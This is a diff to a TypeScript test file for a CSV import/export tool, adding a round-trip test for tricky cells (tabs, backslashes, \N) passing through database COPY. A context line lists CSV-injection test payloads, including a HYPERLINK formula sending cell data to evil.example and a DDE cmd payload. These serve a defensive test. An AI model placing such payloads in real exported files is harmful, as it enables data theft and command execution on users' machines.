@@ -79,6 +79,36 @@ describe('export round trip', () => {
   });
 });
 
+describe('cells the server path sends through COPY', () => {
+  it('keeps tabs, backslashes, line breaks, a literal \\N and empty cells exactly: import → export → import → export is identical', async () => {
+    const a = sampleCopy();
+    const tricky = [
+      'id,account_id,user_id,occurred_at,type,contact_ids,summary,next_step,next_step_due',
+      'I901,A100,u_zhang,2026-09-01T10:00:00+08:00,visit,C1002;C1003,"tab\there, back\\slash \\N and \\t, ""quoted""\nsecond line\r\nthird",\\N,',
+      'I902,A100,u_zhang,2026-09-02T10:00:00+08:00,call,,"ends with a backslash\\",,2026-09-09',
+    ];
+    appendFileSync(join(a, 'interactions.csv'), tricky.slice(1).join('\n') + '\n');
+    const db = await emptyDb();
+    await importDir(db, a, TEST_TZ);
+    const r = await db.query<{ id: string; summary: string; next_step: string | null; contact_ids: string[] }>(
+      "SELECT id, summary, next_step, contact_ids FROM interactions WHERE id IN ('I901', 'I902') ORDER BY id",
+    );
+    expect(r.rows).toEqual([
+      { id: 'I901', summary: 'tab\there, back\\slash \\N and \\t, "quoted"\nsecond line\r\nthird', next_step: '\\N', contact_ids: ['C1002', 'C1003'] },
+      { id: 'I902', summary: 'ends with a backslash\\', next_step: null, contact_ids: [] },
+    ]);
+    const b = tmp();
+    const c = tmp();
+    await exportDir(db, b, TEST_TZ);
+    await db.close();
+    const again = await emptyDb();
+    await importDir(again, b, TEST_TZ);
+    await exportDir(again, c, TEST_TZ);
+    await again.close();
+    expect(readExport(c)).toEqual(readExport(b));
+  });
+});
+
 describe('formula injection (CSV injection)', () => {
   it("export prefixes formula-like cells with ' and import reads them back: export → import → export is byte-identical", async () => {
     const summaries = ['=HYPERLINK("https://evil.example/?d="&A1,"详情")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', "'=already quoted", "''+twice", '\t=tab first'];
